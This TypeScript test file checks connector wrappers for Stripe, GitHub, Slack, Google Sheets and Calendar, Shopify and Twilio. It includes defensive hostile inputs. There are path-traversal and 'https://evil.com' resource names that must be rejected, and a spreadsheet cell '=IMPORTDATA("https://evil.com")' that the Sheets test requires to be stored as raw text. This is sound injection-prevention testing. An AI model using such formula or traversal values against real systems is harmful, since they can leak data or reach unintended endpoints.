import { githubConnector } from '../../../../server/src/providers/connectors/github';
import { googleConnector } from '../../../../server/src/providers/connectors/google';
import { shopifyConnector } from '../../../../server/src/providers/connectors/shopify';
import { slackConnector } from '../../../../server/src/providers/connectors/slack';
import { stripeConnector } from '../../../../server/src/providers/connectors/stripe';
import { twilioConnector } from '../../../../server/src/providers/connectors/twilio';
import { allOf, recordingClient } from './recording-client';

describe('Stripe', () => {
  it('creates and changes by POST, with the key that the caller gives', async () => {
    const { client, calls } = recordingClient({ data: { id: 'cus_1' } }, {}, {});
    const stripe = stripeConnector(client);
    const options = { idempotencyKey: 'order 1' };
    expect(await stripe.createCustomer({ email: 'ann@example.com' }, options)).toEqual({
      id: 'cus_1',
    });
    await stripe.updateCustomer('cus_1', { metadata: { shelf: 'A' } });
    await stripe.createPaymentIntent({ amount: 4600, currency: 'eur' }, options);
    expect(calls).toEqual([
      { method: 'POST', path: '/customers', body: { email: 'ann@example.com' }, options },
      { method: 'POST', path: '/customers/cus_1', body: { metadata: { shelf: 'A' } } },
      {
        method: 'POST',
        path: '/payment_intents',
        body: { amount: 4600, currency: 'eur' },
        options,
      },
    ]);
  });

  it('lists, narrowed by a filter', async () => {
    const { client, calls } = recordingClient({ pages: [[{ id: 'sub_1' }], [{ id: 'sub_2' }]] });
    const { listSubscriptions } = stripeConnector(client);
    expect(await allOf(listSubscriptions({ status: 'all' }))).toHaveLength(2);
    expect(calls).toEqual([
      { method: 'LIST', path: '/subscriptions', options: { query: { status: 'all' } } },
    ]);
  });

  it('reads and deletes any resource', async () => {
    const { client, calls } = recordingClient();
    const stripe = stripeConnector(client);
    await stripe.retrieve('checkout/sessions', 'cs_1');
    await stripe.delete('products', 'prod/1');
    expect(calls.map(({ method, path }) => `${method} ${path}`)).toEqual([
      'GET /checkout/sessions/cs_1',
      'DELETE /products/prod%2F1',
    ]);
  });

  it.each(['../v2/core', '/customers', 'customers?limit=1', 'https://evil.com', ''])(
    'has no resource %j',
    async (resource) => {
      const { client, calls } = recordingClient();
      await expect(stripeConnector(client).retrieve(resource, '1')).rejects.toThrow(TypeError);
      expect(calls).toEqual([]);
    },
  );
});

describe('GitHub', () => {
  it('lists issues without the pull requests among them', async () => {
    const { client, calls } = recordingClient({
      pages: [[{ number: 1 }, { number: 2, pull_request: {} }], [{ number: 3 }]],
    });
    const issues = await allOf(githubConnector(client).listIssues('acme/site', { state: 'all' }));
    expect(issues.map(({ number }) => number)).toEqual([1, 3]);
    expect(calls).toEqual([
      { method: 'LIST', path: '/repos/acme/site/issues', options: { query: { state: 'all' } } },
    ]);
  });

  it('lists pull requests, releases and repositories', async () => {
    const { client, calls } = recordingClient();
    const github = githubConnector(client);
    await allOf(github.listPulls('acme/site'));
    await allOf(github.listReleases('acme/site'));
    await allOf(github.listRepositories());
    expect(calls.map(({ path }) => path)).toEqual([
      '/repos/acme/site/pulls',
      '/repos/acme/site/releases',
      '/user/repos',
    ]);
  });

  it('creates and changes an issue', async () => {
    const { client, calls } = recordingClient({ data: { number: 4 } });
    const github = githubConnector(client);
    expect((await github.createIssue('acme/site', { title: 'A typo' })).number).toBe(4);
    await github.updateIssue('acme/site', 4, { state: 'closed' });
    expect(calls).toMatchObject([
      { method: 'POST', path: '/repos/acme/site/issues', body: { title: 'A typo' } },
      { method: 'PATCH', path: '/repos/acme/site/issues/4', body: { state: 'closed' } },
    ]);
  });

  it.each(['acme', 'acme/', '/site', 'acme/site/issues', '../user', 'acme/..'])(
    'has no repository %j',
    async (repository) => {
      const { client, calls } = recordingClient();
      await expect(githubConnector(client).createIssue(repository, { title: 'x' })).rejects.toThrow(
        TypeError,
      );
      expect(calls).toEqual([]);
    },
  );
});

describe('Slack', () => {
  it('lists channels and users, each where its records stand', async () => {
    const { client, calls } = recordingClient();
    const slack = slackConnector(client);
    await allOf(slack.listChannels({ query: { types: 'private_channel' } }));
    await allOf(slack.listUsers());
    expect(calls).toMatchObject([
      {
        path: '/conversations.list',
        options: { query: { types: 'private_channel' }, paging: { recordsPath: 'channels' } },
      },
      {
        path: '/users.list',
        options: {
          paging: { recordsPath: 'members', cursorPath: 'response_metadata.next_cursor' },
        },
      },
    ]);
  });

  it('posts a message', async () => {
    const { client, calls } = recordingClient({ data: { ok: true, ts: '1.2', channel: 'C1' } });
    const message = { channel: 'C1', text: 'Hello' };
    expect((await slackConnector(client).postMessage(message)).ts).toBe('1.2');
    expect(calls).toMatchObject([{ method: 'POST', path: '/chat.postMessage', body: message }]);
  });
});

describe('Google', () => {
  const url = 'https://sheets.googleapis.com/v4/spreadsheets/sheet/values/Books!A2%3AB';

  it('reads rows, of which an empty range has none', async () => {
    const { client, calls } = recordingClient({ data: { values: [['A', 1]] } }, { data: {} });
    const google = googleConnector(client);
    expect(await google.readRows('sheet', 'Books!A2:B')).toEqual([['A', 1]]);
    expect(await google.readRows('sheet', 'Books!A2:B')).toEqual([]);
    const query = { valueRenderOption: 'UNFORMATTED_VALUE' };
    expect(calls[0]).toEqual({ method: 'GET', path: url, options: { query } });
  });

  it('writes cells as they are, so that none becomes a formula', async () => {
    const { client, calls } = recordingClient({ data: { updates: { updatedRows: 1 } } }, {});
    const google = googleConnector(client);
    const rows = [['=IMPORTDATA("https://evil.com")', 2, null]];
    expect((await google.appendRows('sheet', 'Books!A2:B', rows)).updatedRows).toBe(1);
    await google.updateRows('sheet', 'Books!A2:B', rows);
    expect(calls).toMatchObject([
      {
        method: 'POST',
        path: `${url}:append`,
        body: { values: rows },
        options: { query: { valueInputOption: 'RAW', insertDataOption: 'INSERT_ROWS' } },
      },
      {
        method: 'PUT',
        path: url,
        body: { values: rows },
        options: { query: { valueInputOption: 'RAW' } },
      },
    ]);
  });

  it('lists the events of a calendar, whose id is an address of e-mail', async () => {
    const { client, calls } = recordingClient({ pages: [[{ id: '1' }]] });
    const options = { query: { singleEvents: true } };
    expect(
      await allOf(googleConnector(client).listEvents('a/b@example.com', options)),
    ).toHaveLength(1);
    expect(calls).toEqual([
      { method: 'LIST', path: '/calendar/v3/calendars/a%2Fb%40example.com/events', options },
    ]);
  });
});

describe.each(['products', 'customers', 'orders'] as const)('Shopify’s %s', (plural) => {
  const singular = plural.slice(0, -1);

  it('are listed', async () => {
    const { client, calls } = recordingClient({ pages: [[{ id: 1 }], [{ id: 2 }]] });
    const filter = { updated_at_min: '2026-01-01T00:00:00Z' };
    expect(await allOf<unknown>(shopifyConnector(client)[plural].list(filter))).toHaveLength(2);
    expect(calls).toMatchObject([
      {
        path: `/${plural}.json`,
        options: { query: filter, paging: { style: 'link', recordsPath: plural } },
      },
    ]);
  });

  it('are read, created and changed inside the name of their kind', async () => {
    const answer = { data: { [singular]: { id: 7 } } };
    const { client, calls } = recordingClient(answer, answer, answer);
    const records = shopifyConnector(client)[plural];
    expect((await records.get(7)).id).toBe(7);
    expect((await records.create({ note: 'x' })).id).toBe(7);
    expect((await records.update(7, { note: 'y' })).id).toBe(7);
    expect(calls).toMatchObject([
      { method: 'GET', path: `/${plural}/7.json` },
      { method: 'POST', path: `/${plural}.json`, body: { [singular]: { note: 'x' } } },
      { method: 'PUT', path: `/${plural}/7.json`, body: { [singular]: { note: 'y', id: 7 } } },
    ]);
  });

  it('are not made up where the answer holds none', async () => {
    const { client } = recordingClient({ data: {} });
    await expect(shopifyConnector(client)[plural].get(7)).rejects.toThrow(singular);
  });
});

describe('Twilio', () => {
  it('sends a message, with one name for each of several pictures', async () => {
    const { client, calls } = recordingClient({ data: { sid: 'SM1' } });
    const message = {
      to: '+4930123456',
      from: '+4930654321',
      body: 'Hello & goodbye',
      mediaUrls: ['https://example.com/1.png', 'https://example.com/2.png'],
      more: { StatusCallback: 'https://example.com/status' },
    };
    expect((await twilioConnector(client).sendMessage(message)).sid).toBe('SM1');
    const [call] = calls;
    expect(call).toMatchObject({ method: 'POST', path: '/Messages.json' });
    expect(call?.options?.headers).toEqual({ 'content-type': 'application/x-www-form-urlencoded' });
    expect([...new URLSearchParams(String(call?.body))]).toEqual([
      ['To', '+4930123456'],
      ['StatusCallback', 'https://example.com/status'],
      ['From', '+4930654321'],
      ['Body', 'Hello & goodbye'],
      ['MediaUrl', 'https://example.com/1.png'],
      ['MediaUrl', 'https://example.com/2.png'],
    ]);
  });

  it('lists messages', async () => {
    const { client, calls } = recordingClient({ pages: [[{ sid: 'SM1' }]] });
    const options = { query: { 'DateSent>': '2026-01-01' } };
    expect(await allOf(twilioConnector(client).listMessages(options))).toHaveLength(1);
    expect(calls).toEqual([{ method: 'LIST', path: '/Messages.json', options }]);
  });
});
